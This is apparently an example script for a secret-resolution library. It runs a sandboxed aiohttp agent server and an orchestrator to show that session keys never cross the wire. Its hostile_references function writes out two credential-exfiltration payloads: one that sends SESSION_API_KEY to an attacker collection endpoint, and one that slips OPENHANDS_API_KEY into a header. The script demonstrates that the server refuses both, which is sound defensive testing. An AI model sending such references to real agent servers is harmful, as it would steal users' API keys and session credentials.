"""Agent server: receive secret references as JSON, resolve them late with one resolver.

Run it with ``python examples/agent_server.py``. Two roles are played in one script:

* the **agent server** (an :mod:`aiohttp.web` app, as it runs inside a sandbox, where
  ``SESSION_API_KEY`` is in the environment). It stores the references it is sent and
  resolves them on demand through ONE :class:`cloudcreds.SecretResolver`, created when
  the app starts (``cleanup_ctx``) and closed when it stops;
* the **orchestrator**, which knows the sandbox's session key, fetches the secret
  references from the cloud, dumps them to JSON and POSTs them to the agent server.

The POSTed JSON is inspected to show that the session key never crosses the wire:
each reference carries only the NAME of the environment variable that holds it.

Whoever can POST to the agent server can send it any reference. Deny by default keeps
that harmless: the resolver is configured with the ONE origin it trusts (the cloud's;
in a real sandbox ``OPENHANDS_CLOUD_API_URL`` says it, and that is the default), and
``env_headers`` may only name ``SESSION_API_KEY``. The script POSTs two hostile
references (one to another local server, one naming ``OPENHANDS_API_KEY``) and shows
both refused, with no request sent.
"""

from __future__ import annotations

import asyncio
import json
from collections.abc import AsyncIterator, Mapping

import aiohttp
from aiohttp import web

from cloudcreds import (
    CloudCredsError,
    CloudWorkspace,
    SecretResolver,
    SecretSource,
    dump_secret_sources,
    load_secret_sources,
)
from cloudcreds.testing import FakeCloud

RESOLVER = web.AppKey("resolver", SecretResolver)
SOURCES = web.AppKey("sources", dict[str, SecretSource])
CLOUD_URL = web.AppKey("cloud_url", str)
ENVIRON = web.AppKey("environ", Mapping[str, str])


# --------------------------------------------------------------------- the agent server


async def resolver_ctx(app: web.Application) -> AsyncIterator[None]:
    """One resolver for the whole app: shared pool, single-flight fetches, a 60 s cache.

    It trusts one origin, the cloud's: a reference POSTed here that points anywhere else
    is refused before anything is read or sent. ``environ`` is where the sandbox's
    variables are read (``None``, the default, reads ``os.environ``).
    """
    async with SecretResolver(
        cache_ttl=60,
        max_concurrency=16,
        trusted_origins=[app[CLOUD_URL]],  # default: the origin of OPENHANDS_CLOUD_API_URL
        environ=app[ENVIRON],
    ) as resolver:
        app[RESOLVER] = resolver
        yield  # the app runs here; the resolver is closed on shutdown


async def store_secrets(request: web.Request) -> web.Response:
    """POST /secrets: the JSON of ``dump_secret_sources``; references are stored."""
    try:
        sources = load_secret_sources(await request.read())
    except CloudCredsError as exc:  # unknown kind, bad field...: the message has no value
        raise web.HTTPBadRequest(text=str(exc)) from None
    request.app[SOURCES].update(sources)
    return web.json_response({"stored": sorted(sources)})


async def use_secret(request: web.Request) -> web.Response:
    """GET /secrets/{name}: resolve the reference now and use the value (here: measure it)."""
    source = request.app[SOURCES].get(request.match_info["name"])
    if source is None:
        raise web.HTTPNotFound(text="no such secret reference")
    try:
        value = await request.app[RESOLVER].resolve(source)
    except CloudCredsError as exc:  # UntrustedOriginError for a reference to elsewhere
        return web.json_response({"ok": False, "error": type(exc).__name__}, status=502)
    # A real agent would put the value in a git remote or an Authorization header here.
    return web.json_response({"ok": True, "length": len(value)})


def make_agent_app(cloud_url: str, environ: Mapping[str, str]) -> web.Application:
    """The agent server's app, trusting ``cloud_url``'s origin, reading ``environ``."""
    app = web.Application()
    app[SOURCES] = {}
    app[CLOUD_URL] = cloud_url
    app[ENVIRON] = environ
    app.cleanup_ctx.append(resolver_ctx)
    app.router.add_post("/secrets", store_secrets)
    app.router.add_get("/secrets/{name}", use_secret)
    return app


# --------------------------------------------------------------------- the orchestrator


def hostile_references(attacker_url: str, cloud_url: str) -> str:
    """What someone who can POST to the agent server might send it."""
    return json.dumps(
        {
            "STEAL_SESSION_KEY": {  # the session key, to a server of the attacker's choice
                "kind": "EnvHeaderLookupSecret",
                "url": f"{attacker_url}/collect",
                "env_headers": {"X-Session-API-Key": "SESSION_API_KEY"},
            },
            "STEAL_API_KEY": {  # the trusted cloud, but another variable in the header
                "kind": "EnvHeaderLookupSecret",
                "url": f"{cloud_url}/api/v1/sandboxes/sb-demo/settings/secrets/GITHUB_TOKEN",
                "env_headers": {"X-Session-API-Key": "OPENHANDS_API_KEY"},
            },
        }
    )


async def main() -> None:
    attacker_hits: list[str] = []

    async def collect(request: web.Request) -> web.Response:
        attacker_hits.append(request.path)
        return web.Response(text="thanks")

    attacker = web.Application()
    attacker.router.add_get("/collect", collect)
    attacker_runner = web.AppRunner(attacker)
    await attacker_runner.setup()
    await web.TCPSite(attacker_runner, "127.0.0.1", 0).start()
    attacker_host, attacker_port = attacker_runner.addresses[0][:2]
    attacker_url = f"http://{attacker_host}:{attacker_port}"

    async with FakeCloud(seed=FakeCloud.demo_seed()) as cloud:
        sandbox = cloud.sandboxes["sb-demo"]
        api_key = cloud.users[sandbox.user_id].api_key

        # The agent server's process runs inside the sandbox: SESSION_API_KEY is set there
        # (and, in this hostile world, the user's API key too).
        sandbox_environ = {
            "SESSION_API_KEY": sandbox.session_api_key,
            "OPENHANDS_API_KEY": api_key,
        }
        runner = web.AppRunner(make_agent_app(cloud.url, sandbox_environ))
        await runner.setup()
        try:
            site = web.TCPSite(runner, "127.0.0.1", 0)  # a free port
            await site.start()
            host, port = runner.addresses[0][:2]
            agent_url = f"http://{host}:{port}"

            # The orchestrator knows the session key and passes it explicitly.
            async with CloudWorkspace(
                cloud.url, api_key, sandbox.id, session_api_key=sandbox.session_api_key
            ) as ws:
                references = await ws.get_secrets()
            payload = json.dumps(dump_secret_sources(references))

            # What crosses the wire: URLs and environment variable NAMES, no key.
            key_sent = sandbox.session_api_key in payload
            name_sent = '"SESSION_API_KEY"' in payload
            print("POST /secrets payload (GITHUB_TOKEN entry):")
            print("  " + json.dumps(json.loads(payload)["GITHUB_TOKEN"], sort_keys=True))
            print(f"session key in payload: {'YES' if key_sent else 'no'}")
            print(f"env var name in payload: {'yes' if name_sent else 'NO'}")
            if key_sent or not name_sent:
                raise SystemExit("unexpected payload")

            async with aiohttp.ClientSession(agent_url) as http:
                async with http.post("/secrets", data=payload) as resp:
                    print(f"POST /secrets -> {resp.status} {await resp.json()}")
                for name in ("GITHUB_TOKEN", "SLACK_WEBHOOK", "GITHUB_TOKEN"):
                    async with http.get(f"/secrets/{name}") as resp:
                        print(f"GET /secrets/{name} -> {resp.status} {await resp.json()}")

                # Anyone who can reach the agent server may POST references: deny by default.
                hostile = hostile_references(attacker_url, cloud.url)
                async with http.post("/secrets", data=hostile) as resp:
                    print(f"POST /secrets (hostile) -> {resp.status}")
                for name in ("STEAL_SESSION_KEY", "STEAL_API_KEY"):
                    async with http.get(f"/secrets/{name}") as resp:
                        print(f"GET /secrets/{name} -> {resp.status} {await resp.json()}")

            # GITHUB_TOKEN was asked for twice but fetched once: the resolver's cache.
            fetches = cloud.count("/api/v1/sandboxes/*/settings/secrets/GITHUB_TOKEN")
            print(f"cloud fetches of GITHUB_TOKEN: {fetches}")
            print(f"requests the attacker's server received: {len(attacker_hits)}")
        finally:
            await runner.cleanup()  # runs the cleanup_ctx: the resolver is closed
            await attacker_runner.cleanup()


if __name__ == "__main__":
    asyncio.run(main())
